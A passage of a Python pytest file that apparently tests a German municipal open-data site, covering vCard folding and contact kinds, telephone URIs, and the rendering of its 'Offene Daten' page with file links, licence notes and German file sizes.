    # No fold splits a backslash escape.
    assert not re.search(r"(?<!\\)(\\\\)*\\\r\n ", text)


@pytest.mark.parametrize("offset", range(60, 80))
def test_vcard_fold_keeps_characters_and_escapes_whole(offset: int) -> None:
    line = "NOTE:" + "a" * offset + "\\,b" + "ü🚋" * 30
    folded = fold_line(line)
    assert len(folded) > 1
    assert folded[0] + "".join(part[1:] for part in folded[1:]) == line
    for number, part in enumerate(folded):
        assert len(part.encode("utf-8")) <= 75
        assert part.startswith(" ") == (number > 0)
        trailing = len(part) - len(part.rstrip("\\"))
        assert trailing % 2 == 0, f"fold inside an escape: {part!r}"


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("Projektteam Smart Parking", "group"),
        ("Team Digitalisierung", "group"),
        ("Smart-City-Team der EVV", "group"),
        ("Bürgerbüro Überruhr", "org"),
        ("Geschäftsstelle CONNECTED.ESSEN", "org"),
        ("Presseamt", "org"),
        ("Herr Adelskamp", "individual"),
        ("Hans-Jürgen Best", "individual"),
        ("Teamleiterin Jördis Ünal", "individual"),
        ("Büroleiter Meier", "individual"),
        (NASTY_CONTACT_NAME, "individual"),
    ],
)
def test_vcard_kind_follows_the_name(name: str, kind: str) -> None:
    organization = Partner("stadt", "Stadt Essen", "administration", None, None, None, None, "x")
    contact = Contact("c", name, "Rolle", organization, None, None, False, "contacts.yml", 1)
    assert vcard_kind(contact) == kind
    card = parse_vcard(vcard(contact, publication()))
    assert card["KIND"] == [kind]
    units = [] if kind == "individual" else [name]
    assert card["ORG"] == [COMPONENTS.join(["Stadt Essen", *units])]


def test_editors_guide_names_every_word_that_makes_a_team_or_office() -> None:
    guide = (REPO / "REDAKTION.md").read_text(encoding="utf-8")
    [paragraph] = [p for p in guide.split("\n\n") if "Visitenkarte (vCard) erkennt" in p]
    listed = set(re.findall(r"»([a-zäöüß]+)«", paragraph))
    assert listed == set(VCARD_GROUP_NOUNS) | set(VCARD_ORG_NOUNS)


@pytest.mark.parametrize(
    ("phone", "uri"),
    [
        ("+49 201 8888109", "tel:+492018888109"),
        ("+49 (0)201 123-45", "tel:+4920112345"),
        ("0201 8888109", "tel:+492018888109"),
        ("0049 201 8888109", "tel:+492018888109"),
        ("8888109", "tel:8888109;phone-context=+49"),
    ],
)
def test_tel_href(phone: str, uri: str) -> None:
    assert tel_href(phone) == uri


# --------------------------------------------------------------------------- the /daten/ page


def render_page(
    site: Site,
    files: dict[str, bytes],
    licence: tuple[str, str] = ZERO,
    urls: UrlScheme | None = None,
) -> Node:
    renderer = Renderer(TEMPLATES, urls=urls)
    page = data_page(site, renderer, publication(licence, urls), list(files.items()))
    assert page.src_uri == "daten/index.md"
    assert page.is_overview
    assert page.title == "Offene Daten"
    return parse_html(page.body)


@pytest.mark.parametrize("directory_urls", [True, False])
def test_data_page_links_every_file(
    nasty_site: Site, nasty_files: dict[str, bytes], directory_urls: bool
) -> None:
    root = render_page(nasty_site, nasty_files, urls=UrlScheme(directory_urls))
    page_address = SITE_ROOT + ("daten/" if directory_urls else "daten/index.html")
    linked = {
        urljoin(page_address, href)[len(SITE_ROOT) :]
        for href in root.hrefs()
        if urljoin(page_address, href).startswith(SITE_ROOT)
    }
    listed = [item.path for item in DATA_FILES] + ["daten/katalog.jsonld"]
    for path in listed:
        assert path in nasty_files
        assert path in linked, f"{path} is not linked"
    kontakt = "kontakt/" if directory_urls else "kontakt/index.html"
    assert kontakt in linked
    # Every same-site link points at an exported file or a generated page.
    for target in linked - {kontakt}:
        target = target.split("#", 1)[0]
        assert target in nasty_files or target in {"daten/", "daten/index.html"}, target


def test_data_page_explains_files_columns_and_licence(
    nasty_site: Site, nasty_files: dict[str, bytes]
) -> None:
    root = render_page(nasty_site, nasty_files)
    text = root.text()
    tables = root.find_all("table")
    assert tables and all(t.find("caption") is not None for t in tables)
    for th in root.find_all("th"):
        assert th.attrs.get("scope") in {"col", "row"}, th
    row_headers = {th.text().strip() for th in root.find_all("th") if th.attrs["scope"] == "row"}
    for column in (*INITIATIVE_COLUMNS, *PARTNER_COLUMNS, *BEZIRK_PROPERTIES):
        assert column.name in row_headers
    # The Bezirke's geometry is the city's, under its licence: said where the file is explained.
    [geometry] = [p for p in root.find_all("p") if "(Polygon, WGS 84" in p.text()]
    assert "stadtbezirke.geojson" in geometry.text() and "»Stadt Essen«" in geometry.text()
    links = {a.attrs.get("href") for a in geometry.find_all("a")}
    assert "https://www.govdata.de/dl-de/by-2-0" in links
    # By the name shown: files next to their pages with their folder (aktuelles/feed.xml).
    file_rows: dict[str, str] = {}
    for tr in tables[0].find_all("tr"):
        th = tr.find("th")
        if th is not None and th.attrs["scope"] == "row":
            file_rows[th.text().strip()] = file_rows.get(th.text().strip(), "") + tr.text()
    for path in [item.path for item in DATA_FILES] + ["daten/katalog.jsonld"]:
        shown = Path(path).name if Path(path).parent.as_posix() in {".", "daten"} else path
        assert file_size(len(nasty_files[path])) in file_rows[shown]
    licence_links = [a for a in root.find_all("a") if a.attrs.get("href") == ZERO[1]]
    assert licence_links and all(a.text() == ZERO[0] for a in licence_links)
    assert "DCAT-AP.de" in text and "vCard" in text and "Atom" in text
    assert "UTF-8 mit Byte-Order-Mark" in text and "Apostroph" in text
    assert "mit jeder Veröffentlichung" in text
    assert f"{PUBLISHER}, CONNECTED.ESSEN – Offene Daten" in text
    assert f"{len(nasty_site.contacts)} Ansprechpersonen" in text


def test_data_page_asks_for_attribution_only_when_the_licence_does(
    nasty_site: Site, nasty_files: dict[str, bytes]
) -> None:
    assert "Bitte nennen Sie" not in render_page(nasty_site, nasty_files, ZERO).text()
    by_page = render_page(nasty_site, nasty_files, BY)
    assert "Bitte nennen Sie" in by_page.text()
    assert any(a.attrs.get("href") == BY[1] for a in by_page.find_all("a"))


def test_file_size_is_german() -> None:
    assert file_size(845) == "845 Byte"
    assert file_size(12_345) == "12,3 kB"
    assert file_size(1_234_567) == "1,2 MB"
